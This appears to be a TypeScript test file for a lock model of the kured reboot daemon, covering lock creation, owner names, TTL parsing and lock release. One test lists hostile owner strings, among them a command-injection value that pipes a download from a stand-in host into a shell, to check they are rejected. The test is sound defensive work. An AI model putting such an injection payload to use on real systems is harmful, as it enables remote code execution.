import assert from 'node:assert/strict'
import { test } from 'node:test'
import { lockHoldings, lockOwner, lockWithout, newLock, runOfLock } from '../../../src/ground/model/kured-lock.ts'
import { wallMs } from '../../../src/ground/model/time.ts'

const AT = wallMs(Date.UTC(2026, 0, 1, 12))
const RUN = '20260101T120000Z-0001'
const NODE = { nodeID: 'n2', metadata: { unschedulable: false }, created: '2026-01-01T11:00:00Z', TTL: 0 }

test('a lock of a run has the fields of both shapes of kured, and a time in nanoseconds', () => {
  const entry = {
    nodeID: `evenkeel/${RUN}`,
    metadata: { unschedulable: true },
    created: '2026-01-01T12:00:00.000Z',
    TTL: 900_000_000_000,
  }
  assert.deepEqual(JSON.parse(newLock({ run: RUN, wall: AT, concurrency: 2 })), {
    ...entry,
    maxOwners: 2,
    locks: [entry, entry],
  })
})

test('no node can have the name under which a run holds the lock', () => {
  assert.doesNotMatch(lockOwner('0001'), /^[a-z0-9]([a-z0-9.-]*[a-z0-9])?$/)
  assert.deepEqual([runOfLock(lockOwner(RUN)), runOfLock('n1'), runOfLock('evenkeel-1')], [RUN, undefined, undefined])
})

test('an owner of the lock that cannot be the name of a run becomes no part of a command', () => {
  for (const owner of ['evenkeel/', 'evenkeel/x; curl evil|sh #', 'evenkeel/x\ny', 'evenkeel/-x', 'evenkeel/$(x)'])
    assert.equal(runOfLock(owner), undefined, owner)
})

test('a lock that names no holder is held by a node that is not known', () => {
  const UNNAMED = ['{"nodeId":"manual"}', '{}', 'null', '', '{"nodeID":""}', '{"nodeID":null,"TTL":1}', '[]', '7']
  const IN_LISTS = ['{"locks":[{}]}', '{"locks":[{"nodeID":"n1"},{"nodeId":"n2"}]}', '{"locks":[null]}', '{"Locks":[]}']
  for (const text of [...UNNAMED, ...IN_LISTS]) assert.equal(lockHoldings(text), undefined, text)
  const FREE = ['{"maxOwners":2,"locks":[]}', '{"maxOwners":2,"locks":null}']
  for (const text of FREE) assert.deepEqual(lockHoldings(text), [], text)
})

test('when a lock ends is read from it alone', () => {
  const ends = (TTL: unknown, created: unknown = '2026-01-01T12:00:00Z'): readonly unknown[] | undefined =>
    lockHoldings(JSON.stringify({ nodeID: 'n1', created, TTL }))?.map(({ owner, endsAt }) => [owner, endsAt])
  assert.deepEqual(ends(60e9), [['n1', AT + 60_000]])
  assert.deepEqual(ends(0), [['n1', undefined]])
  assert.deepEqual(ends(-1), [['n1', undefined]])
  assert.deepEqual(ends(60e9, 'never'), [['n1', undefined]])
  assert.equal(ends(60e9, 7), undefined)
  for (const TTL of [{ valueOf: 1, toString: 1 }, '1', [1], true, null])
    assert.deepEqual(ends(TTL), [['n1', undefined]], JSON.stringify(TTL))
})

const ours = JSON.parse(newLock({ run: RUN, wall: AT, concurrency: 1 }))
const WITHOUT: readonly (readonly [title: string, lock: object, left: object | null])[] = [
  ['only ours', ours, null],
  ['a node that kured added', { maxOwners: 3, locks: [...ours.locks, NODE] }, { maxOwners: 3, locks: [NODE] }],
  ['another node', { maxOwners: 2, locks: [NODE] }, { maxOwners: 2, locks: [NODE] }],
]

for (const [title, lock, left] of WITHOUT)
  test(`what stays of the lock once the run has given it back: ${title}`, () => {
    const text = lockWithout(JSON.stringify(lock), RUN)
    assert.deepEqual(text === null ? null : JSON.parse(text), left)
  })
